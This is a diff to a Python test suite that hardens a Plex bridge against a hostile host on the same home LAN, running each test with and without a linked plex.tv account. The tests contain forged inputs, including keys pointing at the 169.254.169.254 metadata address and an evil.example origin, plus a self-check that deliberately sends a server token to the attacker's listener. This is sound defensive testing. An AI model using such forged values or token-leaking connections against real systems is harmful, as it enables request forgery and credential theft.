@@ -5,12 +5,18 @@ The bridge, the Plex server and the owner's TV run in the test process, which ne
 LAN segment; the attacker is another network namespace on that segment with its own address. It
 has what any host on a home LAN has: GDM datagrams from an address of its own choosing, plain HTTP,
 and listening sockets (tests/hardening/lan_attacker.py, run inside its namespace).
+
+Every test runs twice: without a plex.tv account, and with one linked (issue 13). On the way out the
+lab checks that neither the configured server token nor any plex.tv token reached the attacker's
+host (every frame its interface saw), and no plex.tv token reached the TV or the server.
 """
 
 from __future__ import annotations
 
+import asyncio
 import json
 import logging
+import socket
 import uuid
 from pathlib import Path
 from urllib.parse import parse_qs, urlsplit
@@ -20,6 +26,7 @@ import pytest
 
 from tests.hardening.conftest import TOKEN
 from tests.hardening.hostile_lan import (
+    ACCOUNTS,
     MOVIE,
     PRIVATE,
     TV,
@@ -32,14 +39,21 @@ from tests.hardening.hostile_lan import (
 from tests.helpers import until
 from tests.netlab import ip
 
+
+@pytest.fixture(params=ACCOUNTS)
+def account(request: pytest.FixtureRequest) -> str:
+    """Without a plex.tv account, and with one linked."""
+    return str(request.param)
+
+
 # -- row 1 -------------------------------------------------------------------------------------
 
 
 async def test_row1_a_lan_fling_gets_no_configured_token_and_a_grant_covers_only_the_flung_item(
-        tmp_path: Path) -> None:
+        tmp_path: Path, account: str) -> None:
     # The attacker's player gets the profile that relays (the attacker picks a product whose profile
     # does; here the owner's override stands for that choice).
-    async with lan_lab(tmp_path, "profiles: {Evil TV: lab-old-tv}") as lab:
+    async with lan_lab(tmp_path, "profiles: {Evil TV: lab-old-tv}", account=account) as lab:
         listener = await spawn_listener(lab, 40001)
         await lab.gdm("HELLO * HTTP/1.0", {
             "Content-Type": "plex/media-player", "Resource-Identifier": "evil-player-1", "Name": "Evil TV",
@@ -92,8 +106,8 @@ async def test_row1_a_lan_fling_gets_no_configured_token_and_a_grant_covers_only
 
 
 async def test_row2_a_sighting_with_the_configured_servers_identifier_moves_nothing(
-        tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
-    async with lan_lab(tmp_path) as lab:
+        tmp_path: Path, account: str, caplog: pytest.LogCaptureFixture) -> None:
+    async with lan_lab(tmp_path, account=account) as lab:
         honeypot = await spawn_listener(lab, 32400)  # where the configured token would go
         admin = f"http://{lab.me}:{lab.config.http.admin_port}/api/servers"
         published = json.loads((await lab.attack_http("GET", admin))["body"])
@@ -125,8 +139,8 @@ async def test_row2_a_sighting_with_the_configured_servers_identifier_moves_noth
         honeypot.kill()
 
 
-async def test_row3_a_bye_with_the_configured_servers_identifier_forgets_nothing(tmp_path: Path) -> None:
-    async with lan_lab(tmp_path) as lab:
+async def test_row3_a_bye_with_the_configured_servers_identifier_forgets_nothing(tmp_path: Path, account: str) -> None:
+    async with lan_lab(tmp_path, account=account) as lab:
         for ident in (lab.server_id, lab.server.machine_identifier):
             await lab.gdm("BYE * HTTP/1.0", {"Content-Type": "plex/media-server", "Resource-Identifier": ident,
                                              "Port": str(lab.server.port)})
@@ -153,8 +167,9 @@ async def test_row3_a_bye_with_the_configured_servers_identifier_forgets_nothing
 # -- row 6 -------------------------------------------------------------------------------------
 
 
-async def test_row6_a_web_pages_cross_site_requests_are_refused_and_real_apps_pass(tmp_path: Path) -> None:
-    async with lan_lab(tmp_path) as lab:
+async def test_row6_a_web_pages_cross_site_requests_are_refused_and_real_apps_pass(
+        tmp_path: Path, account: str) -> None:
+    async with lan_lab(tmp_path, account=account) as lab:
         pause = lab.face_url(TV, "/player/playback/pause")
         fling = lab.face_url(TV, "/player/playback/playMedia", lab.fling_params(token="phone-token-123"))
         evil = {"Origin": "http://evil.example"}
@@ -182,8 +197,8 @@ async def test_row6_a_web_pages_cross_site_requests_are_refused_and_real_apps_pa
 # -- rows 7 and 8 ------------------------------------------------------------------------------
 
 
-async def test_row7_keys_that_point_at_another_host_are_refused_and_recorded(tmp_path: Path) -> None:
-    async with lan_lab(tmp_path) as lab:
+async def test_row7_keys_that_point_at_another_host_are_refused_and_recorded(tmp_path: Path, account: str) -> None:
+    async with lan_lab(tmp_path, account=account) as lab:
         forged = [
             {"key": "//169.254.169.254/latest/meta-data/"},
             {"containerKey": f"https://{lab.attacker.address}/playQueues/1"},
@@ -209,8 +224,9 @@ async def test_row7_keys_that_point_at_another_host_are_refused_and_recorded(tmp
                                                                    "/playQueues/1?own=1&window=100")
 
 
-async def test_row8_a_token_nested_in_key_or_container_key_never_reaches_the_player(tmp_path: Path) -> None:
-    async with lan_lab(tmp_path) as lab:
+async def test_row8_a_token_nested_in_key_or_container_key_never_reaches_the_player(
+        tmp_path: Path, account: str) -> None:
+    async with lan_lab(tmp_path, account=account) as lab:
         # A controller on the LAN (the test process, as a phone) flings with the token nested too.
         params = lab.fling_params(token=TOKEN, key=f"/library/metadata/{MOVIE}?X-Plex-Token={TOKEN}",
                                   containerKey=f"/playQueues/1?own=1&X-Plex-Token%3D{TOKEN}&window=100")
@@ -231,8 +247,8 @@ async def test_row8_a_token_nested_in_key_or_container_key_never_reaches_the_pla
 
 
 async def test_row9_a_sighting_from_a_source_that_cannot_be_on_this_link_is_ignored(
-        tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
-    async with lan_lab(tmp_path) as lab:
+        tmp_path: Path, account: str, caplog: pytest.LogCaptureFixture) -> None:
+    async with lan_lab(tmp_path, account=account) as lab:
         # An address of another network (a LAN the bridge host also reaches, say) as the source: the
         # bridge would send subscribe and playMedia requests there, on the port the datagram names.
         lab.attacker.add_address("192.168.77.20")
@@ -248,7 +264,7 @@ async def test_row9_a_sighting_from_a_source_that_cannot_be_on_this_link_is_igno
 
 
 async def test_row9_on_every_interface_the_kernel_says_where_a_sighting_arrived(
-        tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
+        tmp_path: Path, account: str, caplog: pytest.LogCaptureFixture) -> None:
     # The default configuration listens on every interface; the bridge host also sits on a second
     # network (one end of a veth pair here), whose addresses the attacker borrows as its source.
     other = f"cbtx{uuid.uuid4().hex[:6]}"
@@ -257,7 +273,7 @@ async def test_row9_on_every_interface_the_kernel_says_where_a_sighting_arrived(
         ip("addr", "add", "192.168.77.1/24", "dev", other)
         ip("link", "set", other, "up")
         ip("link", "set", f"{other}p", "up")
-        async with lan_lab(tmp_path, every_interface=True) as lab:
+        async with lan_lab(tmp_path, every_interface=True, account=account) as lab:
             assert lab.bridge.config.interfaces == ()
             lab.attacker.add_address("192.168.77.20")
             spoofed = {"Content-Type": "plex/media-player", "Resource-Identifier": "spoofed-2", "Name": "Spoofed",
@@ -277,8 +293,8 @@ async def test_row9_on_every_interface_the_kernel_says_where_a_sighting_arrived(
 # -- row 10 ------------------------------------------------------------------------------------
 
 
-async def test_row10_a_timeline_push_counts_only_from_the_player_it_names(tmp_path: Path) -> None:
-    async with lan_lab(tmp_path) as lab:
+async def test_row10_a_timeline_push_counts_only_from_the_player_it_names(tmp_path: Path, account: str) -> None:
+    async with lan_lab(tmp_path, account=account) as lab:
         assert lab.bridge._listener is not None
         listener = f"http://{lab.me}:{lab.bridge._listener.port}/:/timeline"
         slot = next(s for s in lab.bridge.faces.values() if s.target.name == TV)
@@ -294,3 +310,34 @@ async def test_row10_a_timeline_push_counts_only_from_the_player_it_names(tmp_pa
         await lab.player.set_playback(state="playing", key=f"/library/metadata/{MOVIE}", duration=600000)
         await until(lambda: f"/library/metadata/{MOVIE}" in repr(slot.face.state), timeout=10,
                     message="the player's own timeline reached the face")
+
+
+# -- the lab's own check -----------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("secret", ["account", "server"])
+async def test_the_lab_sees_a_token_that_reaches_the_attacker_even_split_across_segments(
+        tmp_path: Path, secret: str) -> None:
+    """What the check on the way out stands on: a token sent to the attacker's host in two TCP
+    segments is found in its capture, and the lab's exit fails."""
+    async def leak() -> None:
+        async with lan_lab(tmp_path, account="linked") as lab:
+            token = next(iter(lab.plextv_tokens())) if secret == "account" else TOKEN
+            listener = await spawn_listener(lab, 40050)
+            reader, writer = await asyncio.open_connection(lab.attacker.address, 40050)
+            writer.get_extra_info("socket").setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
+            first, second = token[:len(token) // 2].encode(), token[len(token) // 2:].encode()
+            writer.write(b"GET /" + first)
+            await writer.drain()
+            await until(lambda: first in lab.capture.read_bytes(), timeout=10, message="the first segment went out")
+            writer.write(second + b" HTTP/1.0\r\n\r\n")
+            await writer.drain()
+            await reader.read()
+            writer.close()
+            await writer.wait_closed()
+            assert not any(token.encode() in frame for frame in lab.frames()), "no single frame holds it"
+            listener.kill()
+
+    which = "a plex.tv token" if secret == "account" else "the server token"
+    with pytest.raises(AssertionError, match=f"reached the attacker's host: {which}"):
+        await leak()
